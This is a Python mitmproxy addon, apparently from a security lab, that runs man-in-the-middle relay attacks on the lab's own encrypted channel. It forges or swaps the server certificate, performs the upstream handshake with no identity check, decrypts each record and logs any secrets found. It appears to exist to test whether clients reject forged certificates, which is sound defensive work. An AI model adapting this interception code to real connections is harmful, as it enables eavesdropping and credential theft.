"""The relay behind pubkey-swap, self-signed, wrong-host and expired-cert: the attacker terminates the
lab channel on both sides and reads everything in between.

    client  <-- downstream: the attacker as server,  -->  attacker  <-- upstream: the attacker as  -->  server
                presenting a forged certificate                         client, checking nothing

The client's ClientHello is held until the real server's ServerHello has passed, so that a forgery
can be made from the real certificate (pubkey-swap). Both legs mirror the client's record-layer
features and offer its suites; each leg has its own keys, so every record is decrypted, read and
re-encrypted. Whether the client accepts the forged certificate is the client's protections' call.
"""

from __future__ import annotations

import datetime
from collections.abc import Sequence
from dataclasses import dataclass, field

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa
from mitmproxy import tcp
from mitmproxy.addonmanager import Loader

from lab import events
from lab.channel.connection import (
    ApplicationData,
    ClientConfig,
    ClientConnection,
    HandshakeComplete,
    ServerConfig,
    ServerConnection,
    State,
    VerifiedIdentity,
    key_fingerprint,
)
from lab.channel.errors import ChannelError, PeerRefused, RemoteProtocolError
from lab.channel.frames import FrameBuffer, FrameType
from lab.channel.messages import ClientHello, Finished, decode_handshake
from lab.channel.protections import RECOMMENDED, Protections
from lab.channel.suites import ALL_SUITES, RecordFeatures
from lab.mitm.evidence import AttackEvidence, declare_common_options, secrets_in, state_dir
from lab.mitm.wire import FlowWire, flow_wire, looks_like_lab
from lab.pki.authority import Leaf
from lab.state import SERVER_NAME, StateDir


class AcceptAnything:
    """The attacker's identity check toward the real server: none. It keeps the chain it was shown."""

    def __init__(self) -> None:
        self.chain: list[x509.Certificate] = []

    def verify(
        self,
        chain: Sequence[x509.Certificate],
        server_name: str,
        protections: Protections,
        now: datetime.datetime,
    ) -> VerifiedIdentity:
        self.chain = list(chain)
        key = chain[0].public_key()
        if not isinstance(key, rsa.RSAPublicKey):
            raise RemoteProtocolError("the server certificate's key is not RSA", step="server_certificate")
        return VerifiedIdentity(key, chain[0].subject.rfc4514_string(), key_fingerprint(key), ())


def endpoint_protections(features: RecordFeatures) -> Protections:
    """The attacker's own legs: every suite allowed, no identity check, the client's record layer."""
    return RECOMMENDED.without("ca_trust", "hostname", "validity").with_switches(
        {
            "sequence_numbers": RecordFeatures.SEQUENCE_NUMBERS in features,
            "per_direction_keys": RecordFeatures.PER_DIRECTION_KEYS in features,
        }
    )


@dataclass
class Interception:
    upstream: ClientConnection
    verifier: AcceptAnything
    protections: Protections
    downstream: ServerConnection | None = None
    held_from_client: bytearray = field(default_factory=bytearray)
    waiting_for_server: list[bytes] = field(default_factory=list)
    """Client plaintexts that arrived before the upstream leg was established."""


class RelayAttack:
    def __init__(self, attack: str) -> None:
        self.attack = attack
        self.evidence = AttackEvidence(attack)

    def load(self, loader: Loader) -> None:
        declare_common_options(loader)

    def forged_leaf(self, state: StateDir, real_chain: list[x509.Certificate]) -> Leaf:
        """The certificate and key to present to the client."""
        raise NotImplementedError

    # mitmproxy hooks ----------------------------------------------------------------------------------

    def tcp_message(self, flow: tcp.TCPFlow) -> None:
        message = flow.messages[-1]
        wire = flow_wire(flow)
        if wire.is_own_injection(message):
            return
        data, message.content = message.content, b""
        if flow.metadata.get("lab_relay_over"):
            return
        try:
            if message.from_client:
                self._from_client(flow, wire, data)
            else:
                self._from_server(flow, wire, data)
        except PeerRefused as refused:
            who = "client" if message.from_client else "server"
            self.evidence.failed(flow, f"the {who} refused: {refused.message}", step=refused.step)
            self._end(flow, wire)
        except ChannelError as error:
            self.evidence.failed(flow, f"the relay could not go on: {error}", step=error.step)
            self._end(flow, wire)
        except Exception as error:  # a bug in the relay: say so, and close rather than hang
            self.evidence.error(flow, error)
            self._end(flow, wire)

    def _end(self, flow: tcp.TCPFlow, wire: FlowWire) -> None:
        """Give each side the alert its leg has queued, then close both connections."""
        flow.metadata["lab_relay_over"] = True
        self._flush(flow, wire)
        if flow.killable:
            flow.kill()

    def tcp_end(self, flow: tcp.TCPFlow) -> None:
        self.evidence.record(flow, events.FlowEnded())

    # The two directions -------------------------------------------------------------------------------

    def _from_client(self, flow: tcp.TCPFlow, wire: FlowWire, data: bytes) -> None:
        relay: Interception | None = flow.metadata.get("lab_relay")
        if relay is None:
            self._start(flow, wire, data)
            return
        if relay.downstream is None:
            relay.held_from_client += data
        else:
            self._mirror_transcript(wire.buffers[True], relay.downstream, data)
            for event in relay.downstream.receive_data(data):
                self._on_client_event(flow, wire, relay, event)
        self._flush(flow, wire)

    @staticmethod
    def _mirror_transcript(
        buffer: FrameBuffer, endpoint: ClientConnection | ServerConnection, data: bytes
    ) -> None:
        """The attacker's legs send transcript MACs, but require none from a peer that sends none."""
        for frame in buffer.feed(data):
            if frame.type is FrameType.HANDSHAKE and frame.body[:1] == bytes([Finished.msg_type]):
                finished = decode_handshake(frame.body, "finished")
                if isinstance(finished, Finished) and not finished.transcript_mac:
                    endpoint.protections = endpoint.protections.without("transcript")

    def _from_server(self, flow: tcp.TCPFlow, wire: FlowWire, data: bytes) -> None:
        relay: Interception | None = flow.metadata.get("lab_relay")
        if relay is None:
            return
        self._mirror_transcript(wire.buffers[False], relay.upstream, data)
        for event in relay.upstream.receive_data(data):
            if isinstance(event, HandshakeComplete):
                self.evidence.record(flow, events.UpstreamEstablished(server_side_suite=event.suite.name))
                for plaintext in relay.waiting_for_server:
                    relay.upstream.send_application_data(plaintext)
                relay.waiting_for_server.clear()
            elif isinstance(event, ApplicationData):
                self._read(flow, event, "server")
                assert relay.downstream is not None
                relay.downstream.send_application_data(event.data)
        if relay.downstream is None and relay.upstream.state in (
            State.WAIT_SERVER_FINISHED,
            State.ESTABLISHED,
        ):
            self._answer_client(flow, wire, relay)
        self._flush(flow, wire)

    def _start(self, flow: tcp.TCPFlow, wire: FlowWire, data: bytes) -> None:
        """Read the client's ClientHello and open the attacker's own handshake with the real server."""
        buffer = wire.buffers[True]
        if looks_like_lab(True, buffer.pending_bytes() + data) is False:
            raise RemoteProtocolError("these bytes are not the lab channel", step="client_hello")
        frames = buffer.feed(data)
        hello_frame = next((f for f in frames if f.type is FrameType.HANDSHAKE), None)
        if hello_frame is None:
            return
        hello = decode_handshake(hello_frame.body, "client_hello")
        if not isinstance(hello, ClientHello):
            raise ChannelError("the client did not start with a ClientHello", step="client_hello")
        wire.view.client_hello = hello
        protections = endpoint_protections(hello.features)
        verifier = AcceptAnything()
        upstream = ClientConnection(ClientConfig(protections, SERVER_NAME, verifier, suites=hello.suites))
        upstream.start()
        relay = Interception(upstream, verifier, protections)
        relay.held_from_client += hello_frame.encode() + b"".join(f.encode() for f in frames[1:])
        relay.held_from_client += buffer.pending_bytes()
        flow.metadata["lab_relay"] = relay
        self.evidence.record(flow, events.Intercepting(offered=[s.name for s in hello.suites]))
        self._flush(flow, wire)

    def _answer_client(self, flow: tcp.TCPFlow, wire: FlowWire, relay: Interception) -> None:
        """The real ServerHello has passed: now answer the client's held ClientHello with the forgery."""
        leaf = self.forged_leaf(state_dir(), relay.verifier.chain)
        config = ServerConfig(relay.protections, leaf.chain, leaf.private_key, suites=ALL_SUITES)
        relay.downstream = ServerConnection(config)
        self.evidence.record(
            flow,
            events.Presenting(
                certificate=leaf.certificate.subject.rfc4514_string(),
                issuer=leaf.certificate.issuer.rfc4514_string(),
                key=key_fingerprint(leaf.private_key.public_key()),
            ),
        )
        held, relay.held_from_client = bytes(relay.held_from_client), bytearray()
        for event in relay.downstream.receive_data(held):
            self._on_client_event(flow, wire, relay, event)

    def _on_client_event(
        self,
        flow: tcp.TCPFlow,
        wire: FlowWire,
        relay: Interception,
        event: HandshakeComplete | ApplicationData,
    ) -> None:
        if isinstance(event, HandshakeComplete):
            self.evidence.record(flow, events.DownstreamEstablished(client_side_suite=event.suite.name))
            wire.view.records[True] = 0
            return
        wire.view.records[True] += 1
        self._read(flow, event, "client")
        if relay.upstream.state is State.ESTABLISHED:
            relay.upstream.send_application_data(event.data)
        else:
            relay.waiting_for_server.append(event.data)

    def _read(self, flow: tcp.TCPFlow, record: ApplicationData, sender: str) -> None:
        for secret, value in secrets_in(record.data):
            where = f"{sender} record #{record.seq}, decrypted by the relay"
            self.evidence.read(flow, secret, value, where, how="as_the_relay")

    def _flush(self, flow: tcp.TCPFlow, wire: FlowWire) -> None:
        """Send what each leg has queued: toward the client, and toward the real server."""
        relay: Interception | None = flow.metadata.get("lab_relay")
        if relay is None:
            return
        if relay.downstream is not None:
            wire.inject(flow, to_client=True, data=relay.downstream.data_to_send())
        wire.inject(flow, to_client=False, data=relay.upstream.data_to_send())


class PresentCertificate(RelayAttack):
    """Present one of the certificates the attacker holds (`lab.state.ATTACKER_CERTIFICATES`)."""

    def __init__(self, attack: str, certificate: str) -> None:
        super().__init__(attack)
        self.certificate = certificate

    def forged_leaf(self, state: StateDir, real_chain: list[x509.Certificate]) -> Leaf:
        return state.attacker_leaf(self.certificate)
